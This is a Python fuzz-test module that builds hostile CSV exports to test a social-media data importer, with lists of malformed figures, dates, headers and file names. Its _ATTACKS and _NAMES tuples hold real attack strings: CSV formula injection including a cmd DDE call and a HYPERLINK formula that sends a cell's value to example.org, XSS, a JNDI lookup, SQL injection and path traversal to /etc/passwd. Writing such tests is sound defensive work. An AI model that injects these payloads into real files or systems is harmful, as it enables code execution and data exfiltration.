"""Text files whose cells attack whoever shows them, or hold figures and days that are none."""

from random import Random

from hostile.exports import make_export, written
from hostile.files import HostileFile, Must
from hostile.plain import HEADER, file_of, make_rows

_ATTACKS = (
    '=HYPERLINK("http://example.org/"&A1)',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "</script><svg onload=alert(1)>",
    "{{7*7}}",
    "${jndi:ldap://example.org}",
    "%s%n%x",
    "{0.__class__}",
    "__proto__",
    "constructor",
    "'; DROP TABLE posts; --",
    "\u202eevil\u202c",
    "\u2066\u2069\u200b\ufeff",
    "a\u0000b",
    "\x1b[31m\x07\x08",
    "\u0301" * 200,
    "﷽" * 40,
    "NaN",
    "null",
    "../../etc/passwd",
    "x" * 30_000,
    "🏳️‍🌈" * 300,
)
_FIGURES = (
    *("1e309", "-1e309", "NaN", "inf", "-0", "9" * 30, "9223372036854775808", "-9223372036854775809", "0x1F", "1_000"),
    *(
        "١٢٣",
        "²",
        "1.2.3",
        "1,2,3",
        "1e5",
        "1E+18",
        "007",
        "+5",
        "--5",
        "5-",
        "1.5K",
        "99999M",
        "9e99K",
        "٫",
        " ",
        "#REF!",
    ),
)
_MOMENTS = (
    *("9999-12-31 23:59:59", "0000-00-00", "1969-12-31", "2024-02-30 10:00", "31/31/2024", "99999", "73415.99999"),
    *("2024-01-01T25:00:00Z", "2024-01-01 10:00 +9999", "1e10", "-1", "0", "Feb 30, 2024", "12:00", "soon", "1/2/3"),
    *("2024-01-01 10:00:00.999999999999", "32874", "Mon, Jan 1, 2024", "٢٠٢٤-٠١-٠١", "2024-1-1 1:1", "13/13/13 13:13"),
)
_NAMES = (
    *("../../x.csv", "..%2f..%2fx.csv", "a\r\nb.csv", "x" * 300 + ".csv", "CON.csv", "\u202ecsv.exe", "<script>.csv"),
    *('"; filename=x.csv', "\x00.csv", "=1+1.csv", "nul\x00l.csv", ".csv", "   ", "\u200b", "💥.csv", "C:\\x\\y.csv"),
)


def huge_cells(draw: Random) -> HostileFile:
    """Cells as long as books."""
    rows = make_rows()
    rows[2][draw.choice((0, 1, 2, 4))] = "long " * draw.choice((10_000, 199_000, 201_000, 1_500_000))
    return file_of(rows, rows=6)


def attacking_cells(draw: Random) -> HostileFile:
    """Formulas, scripts, templates and marks that turn the writing around, in cells."""
    rows = make_rows(12)
    for row in rows:
        row[draw.choice((0, 4, 4, 4))] = draw.choice(_ATTACKS)
    rows[draw.randrange(12)][1] = draw.choice(_ATTACKS)
    return file_of(rows, rows=12)


def attacking_headers(draw: Random) -> HostileFile:
    """The same in the header, beside columns that are known, or instead of them."""
    header = [*HEADER[: draw.choice((2, 5))], *draw.sample(_ATTACKS, 5)]
    draw.shuffle(header)
    rows = [draw.choices(("1", "2024-01-01", "tea", *_ATTACKS[:4]), k=len(header)) for _ in range(9)]
    return HostileFile(written([header, *rows]).encode())


def odd_headers(draw: Random) -> HostileFile:
    """Headers that stand twice, are empty, or fold to one another."""
    more = (
        "",
        " ",
        "num_comments",
        "NUM_COMMENTS ",
        "\ufeffnum_shares",
        "ｎｕｍ_likes",
        "num_comments",
        "ſtatus_id",
        "İ",
    )
    header = [*HEADER, *draw.choices(more, k=draw.randint(1, 12))]
    draw.shuffle(header)
    rows = [draw.choices(("1", "2", "2024-01-01 10:00", "tea", ""), k=len(header)) for _ in range(9)]
    return HostileFile(written([header, *rows]).encode())


def hostile_names(draw: Random) -> HostileFile:
    """A table that is as it should be, under a name that is not."""
    export = make_export(draw)
    content = export.text().encode()
    return HostileFile(content, draw.choice(_NAMES), Must.READ, len(export.rows), export.tokens, export.values)


def odd_figures(draw: Random) -> HostileFile:
    """Figures that are none, or too large for a machine."""
    rows = make_rows(40)
    for row in rows[draw.choice((0, 20, 39)) :]:
        row[draw.choice((2, 3))] = draw.choice(_FIGURES)
    return file_of(rows, rows=40)


def odd_dates(draw: Random) -> HostileFile:
    """Days that are none, or no day of any network."""
    rows = make_rows(40)
    for row in rows[draw.choice((0, 20, 39)) :]:
        row[1] = draw.choice(_MOMENTS)
    return file_of(rows, rows=40)


def nothing_measured(draw: Random) -> HostileFile:
    """Counts without a single figure."""
    return file_of([[*row[:2], draw.choice(("", "N/A", "-")), "", row[4]] for row in make_rows()], must=Must.REFUSED)
